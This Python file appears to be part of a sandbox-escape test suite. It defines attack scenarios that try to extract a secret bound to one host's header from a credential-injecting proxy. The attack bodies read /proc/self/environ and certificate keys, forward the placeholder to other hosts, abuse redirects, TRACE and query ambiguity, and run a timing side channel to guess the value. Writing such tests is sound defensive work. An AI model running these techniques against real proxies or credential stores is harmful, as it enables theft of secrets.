"""A secret that is bound to one header of one host: the tool holds a placeholder, and wants the value."""

from __future__ import annotations

import contextlib
import socket
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

from toolwright.errors import ToolwrightError
from toolwright.escape.attack import Attack, NotHereError, Proof, got_secret, hit, says
from toolwright.escape.fronts import ANSWER, Front, Names, Plan, Planned, proxied
from toolwright.powers import Grant

if TYPE_CHECKING:
    from toolwright.escape.world import World

NOTHING = b"never to be seen"
_KNOWN = len("planted" + "-secret-")
_HESITATES_S = 1.5


def _can_sign(folder: Path) -> None:
    """NotHereError where what makes certificates is missing: then no secret can be bound, and no tool gets any."""
    from toolwright.sandbox.egress import authority

    try:
        authority.bundle(folder / "authority")
    except (ImportError, AttributeError, ToolwrightError) as error:
        raise NotHereError(f"secrets cannot be bound here: {error}") from error


def _values(world: World) -> dict[str, str]:
    return {"KEY": world.secret_text}


def _bound(front: Front, _names: Names, *, echoes: bool = False) -> Planned:
    """KEY goes into Authorization for the front; another one is granted as well, without it."""
    _can_sign(Path(front.world.private))
    other = Front(front.world, lambda _port: ANSWER)
    front.world.close_with(contextlib.closing(other))
    front.echoes = echoes
    front.mark = other.mark = front.world.secret_text.encode()
    grant = Grant(hosts=(front.power, other.power), secrets=(f"KEY@{front.power}/header/Authorization",))
    return grant, {"unbound": other.power, "authority": str(front.world.private / "authority")}


def _in_query(front: Front, names: Names) -> Planned:
    grant, more = _bound(front, names)
    assert isinstance(grant, Grant)
    return Grant(hosts=grant.hosts, secrets=(f"KEY@{front.power}/query/key",)), more


class _Hesitant(Front):
    """A server that says what the path tells it to, hesitates, and ends; it knows whether `/guess/X` is right."""

    def _hear(self, client: socket.socket) -> None:
        path = client.recv(65536).split()[1].decode()
        if path.endswith("/guess/" + self.world.secret_text[_KNOWN:][:1]):
            self.world.hits += 1
        said = bytes.fromhex(path.rpartition("/say/")[2]) if "/say/" in path else b"."
        client.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%b\r\n" % (len(said), said))
        time.sleep(_HESITATES_S)
        client.sendall(b"2\r\n..\r\n0\r\n\r\n")


def _hesitant(front: Front, names: Names) -> Planned:
    grant, more = _bound(front, names)
    there = _Hesitant(front.world, lambda _port: ANSWER)
    front.world.close_with(contextlib.closing(there))
    assert isinstance(grant, Grant)
    return Grant(hosts=(there.power,), secrets=(f"KEY@{there.power}/header/Authorization",)), {
        **more,
        "granted": there.power,
        "known": "planted" + "-secret-",
    }


def _marked(planned: Planned, front: Front, mark: bytes) -> Planned:
    """*planned*, with a front that looks for *mark*."""
    front.mark = mark
    return planned


def _moved(port: int) -> bytes:
    del port  # where the other one is, only the client knows
    return b"HTTP/1.1 302 Found\r\nLocation: http://127.0.0.2/\r\nContent-Length: 0\r\n\r\n"


def _kept(name: str, body: str, proof: Proof, gain: str, plan: Plan = _bound, **more: Any) -> Attack:
    return proxied(name, body, proof, gain=gain, plan=plan, secrets=_values, family="placeholders", **more)


ATTACKS = (
    _kept(
        "the value itself",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        libc.getenv.restype = ctypes.c_char_p
        files = [os.environ.get("SSL_CERT_FILE", ""), "/proc/self/environ", "/proc/1/environ", "/etc/ssl/cert.pem"]
        readings = [lambda path=path: read(path) for path in files]
        return loot(lambda: dict(os.environ), lambda: libc.getenv(b"KEY"), *readings)
        """,
        got_secret,
        gain="reads the value where the placeholder should be",
    ),
    _kept(
        "the placeholder in other places",
        """
        key = os.environ["KEY"]
        there = f"http://{it['granted']}/"
        said = [ask(there, f"{name}: {key}") for name in ("X-Key", "Cookie", "User-Agent", "X-Authorization")]
        said += [ask(f"{there}?key={key}"), ask(f"{there}{key}"), ask(there, f"{key}: x")]
        said += [ask(there, f"Content-Length: {len(key)}", "", key, method="POST")]
        chunk = f"{len(key):x}\\r\\n{key}\\r\\n0\\r\\n"
        said += [ask(there, "Transfer-Encoding: chunked", "", chunk, method="POST")]
        return [one[:60] for one in said]
        """,
        hit,
        gain="has the value put where the server keeps, shows or logs it",
    ),
    _kept(
        "the placeholder to another host",
        """
        key, other = os.environ["KEY"], it["unbound"]
        said = [ask(f"http://{other}/", f"Authorization: Bearer {key}", host=one) for one in (other, it["granted"])]
        said += [ask(f"http://{other}/?u=http://{it['granted']}/", f"Authorization: {key}")]
        request = f"GET http://{it['granted']}/ HTTP/1.1{NL}Host: {it['granted']}{NL}Authorization: {key}{NL}{NL}"
        return [one[:60] for one in [*said, tunnel(other, request.encode())]]
        """,
        hit,
        gain="sends the value to a host of its own",
    ),
    _kept(
        "a redirect that takes the secret along",
        """
        import urllib.request
        class Onward(urllib.request.HTTPRedirectHandler):
            def redirect_request(self, request, file, code, message, headers, url):
                return super().redirect_request(request, file, code, message, headers, f"http://{it['unbound']}/")
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": way()}), Onward)
        asked = urllib.request.Request(f"http://{it['granted']}/", headers={"Authorization": os.environ["KEY"]})
        return loot(lambda: opener.open(asked, timeout=1).read().decode())
        """,
        hit,
        plan=lambda front, names: _marked(_bound(front, names), front, NOTHING),
        answer=_moved,
        gain="is led from the bound host to another one, with the same headers",
    ),
    _kept(
        "a server that says all of it back",
        """
        key, there = os.environ["KEY"], f"http://{it['granted']}/"
        said = [ask(there, f"Authorization: Bearer {key}"), ask(there, f"Authorization: {key}", method="TRACE")]
        return said + [ask(there, f"Authorization: {key}", f"Range: bytes={at}-") for at in (0, 7)]
        """,
        got_secret,
        plan=lambda front, names: _bound(front, names, echoes=True),
        gain="hears the value from the server that got it: in an error, a header, an echo",
    ),
    _kept(
        "placeholders of others",
        """
        there = f"http://{it['granted']}/"
        names = ["PLANTED", "HOME", "KEY2", "key", "KEY_PLANTED", "../PLANTED"]
        keys = [os.environ.get(name) or f"secret://{name}" for name in names]
        return [ask(there, f"Authorization: {key}")[:60] for key in keys]
        """,
        hit,
        plan=lambda front, names: _marked(_bound(front, names), front, b"planted-secret-"),
        gain="has a variable of the host, or another tool's secret, put into its request",
    ),
    _kept(
        "a query with more than one meaning",
        """
        key, there = os.environ["KEY"], f"http://{it['granted']}/"
        queries = [f"?other={key}", f"?key2={key}", f"?KEY={key}", f"?a[key]={key}", f"?x=1#key={key}",
                   f"?x={key}&y=key", f"?x%3Dkey={key}", f";key={key}", f"/key={key}"]
        return [ask(there + query)[:60] for query in queries]
        """,
        hit,
        plan=_in_query,
        gain="has the value put into another parameter than the bound one",
    ),
    _kept(
        "the key of the authority",
        """
        folders = [it["authority"], os.path.dirname(os.environ.get("SSL_CERT_FILE") or it["authority"]), "/etc/ssl"]
        found = []
        for folder in folders:
            for name in loot(lambda: "\\n".join(os.listdir(folder)))[0].split("\\n"):
                found += loot(lambda: read(os.path.join(folder, name)))
        return "got the key" if any("PRIVATE" in one for one in found) else "none"
        """,
        says("got the key"),
        gain="can be any server to other tools, with the key that signs for the proxy",
    ),
    _kept(
        "a value guessed letter by letter",
        """
        import threading
        held = []
        def listen(letter):
            said = (it["known"] + letter).encode()
            with link() as line:
                line.settimeout(8)
                line.sendall(f"GET http://{it['granted']}/say/{said.hex()} HTTP/1.1{NL}Host: x{NL}{NL}".encode())
                began, heard = time.monotonic(), b""
                while letter.encode() not in heard.partition(it["known"].encode())[2] and (more := line.recv(65536)):
                    heard += more
                if time.monotonic() - began > 1.2:
                    held.append(letter)
        if not os.environ["KEY"].startswith("secret://"):
            held.append(os.environ["KEY"][len(it["known"]):][:1])
        else:
            threads = [threading.Thread(target=listen, args=(letter,)) for letter in "0123456789abcdef"]
            for one in threads:
                one.start()
                time.sleep(0.1)
            for one in threads:
                one.join()
        return ask(f"http://{it['granted']}/guess/{held[0]}")[:20] if len(held) == 1 else held
        """,
        hit,
        plan=_hesitant,
        gain="learns the value from how long the proxy keeps back what may be the beginning of it",
    ),
)
